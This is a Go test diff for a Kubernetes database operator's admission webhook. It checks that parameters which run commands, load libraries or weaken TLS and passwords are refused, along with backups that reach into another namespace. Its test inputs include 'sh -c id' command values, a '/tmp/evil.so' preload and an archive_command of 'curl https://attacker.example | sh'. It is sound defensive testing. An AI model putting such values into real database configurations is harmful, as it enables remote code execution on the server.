@@ -164,6 +164,46 @@ func TestAdmission(t *testing.T) {
 		}
 	})
 
+	t.Run("parameters that run commands, name files, load code or weaken security are refused, each on its field", func(t *testing.T) {
+		dangerous := map[string]string{
+			"archive_command": "sh -c id", "archive_cleanup_command": "sh -c id", "recovery_end_command": "sh -c id",
+			"ssl_passphrase_command": "sh -c id", "config_file": "/tmp/x", "log_directory": "/etc", "krb_server_keyfile": "/tmp/k",
+			"shared_preload_libraries": "/tmp/evil.so", "dynamic_library_path": "/tmp", "ssl_min_protocol_version": "TLSv1",
+			"ssl_ciphers": "ALL:eNULL", "password_encryption": "md5", "basebackup_to_shell.command": "sh -c id",
+		}
+		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "shell", Namespace: "default"}, Spec: dbv1.DatabaseSpec{Parameters: dangerous}}
+		err := c.Create(bg, db)
+		var status apierrors.APIStatus
+		if !apierrors.IsInvalid(err) || !errors.As(err, &status) {
+			t.Fatalf("want Invalid, got %v", err)
+		}
+		fields := map[string]bool{}
+		for _, cause := range status.Status().Details.Causes {
+			fields[cause.Field] = true
+		}
+		for key := range dangerous {
+			if !fields["spec.parameters["+key+"]"] {
+				t.Errorf("no cause for spec.parameters[%s] in %v", key, err)
+			}
+		}
+		if len(fields) != len(dangerous) {
+			t.Errorf("causes on %v, want one per parameter", fields)
+		}
+
+		// Added to a Database that exists: refused too.
+		ok := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "tuned", Namespace: "default"},
+			Spec: dbv1.DatabaseSpec{Parameters: map[string]string{"shared_preload_libraries": "pg_stat_statements", "pg_stat_statements.max": "10000"}}}
+		if err := c.Create(bg, ok); err != nil {
+			t.Fatal(err)
+		}
+		ok.Spec.Parameters["archive_command"] = "curl https://attacker.example | sh"
+		err = c.Update(bg, ok)
+		if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "spec.parameters[archive_command]: Forbidden: archive_command is owned by dbkeeper for WAL archiving") ||
+			!strings.Contains(err.Error(), "set spec.backup") {
+			t.Errorf("adding archive_command: %v, want it refused naming spec.parameters[archive_command] and spec.backup", err)
+		}
+	})
+
 	t.Run("immutable fields, shrinking and downgrades are forbidden on update", func(t *testing.T) {
 		size := resource.MustParse("10Gi")
 		base := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "orders", Namespace: "default"},
@@ -252,6 +292,24 @@ func TestAdmission(t *testing.T) {
 		err := c.Update(bg, db)
 		if want := `admission webhook "mdatabase.dbkeeper.io" denied the request: Database.dbkeeper.io "ledger" is invalid: spec.bootstrap: Forbidden: field is immutable: a Database is bootstrapped once, when it is created`; err == nil || err.Error() != want {
 			t.Errorf("changing the bootstrap: %v, want %s", err, want)
+		}
+	})
+
+	t.Run("another namespace's backups may be neither written nor restored", func(t *testing.T) {
+		store := dbv1.ObjectStore{Endpoint: "https://store:7070", Bucket: "backups", Path: "bank/ledger",
+			CredentialsSecret: dbv1.SecretReference{Name: "store-credentials"}}
+		thief := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "thief", Namespace: "default"},
+			Spec: dbv1.DatabaseSpec{Bootstrap: &dbv1.BootstrapSpec{Recovery: &dbv1.RecoverySpec{
+				Source: dbv1.RecoverySource{ObjectStore: &store, ServerName: "ledger"}}}}}
+		err := c.Create(bg, thief)
+		if want := `spec.bootstrap.recovery.source.objectStore.path: Invalid value: "bank/ledger": must be the Database's namespace "default" or lie under it (default/…)`; !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
+			t.Errorf("a restore from another namespace's directory: %v, want %s", err, want)
+		}
+		vandal := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "vandal", Namespace: "default"},
+			Spec: dbv1.DatabaseSpec{Backup: &dbv1.BackupConfiguration{ObjectStore: store}}}
+		err = c.Create(bg, vandal)
+		if want := `spec.backup.objectStore.path: Invalid value: "bank/ledger": must be the Database's namespace "default" or lie under it (default/…)`; !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
+			t.Errorf("archiving into another namespace's directory: %v, want %s", err, want)
 		}
 	})
 
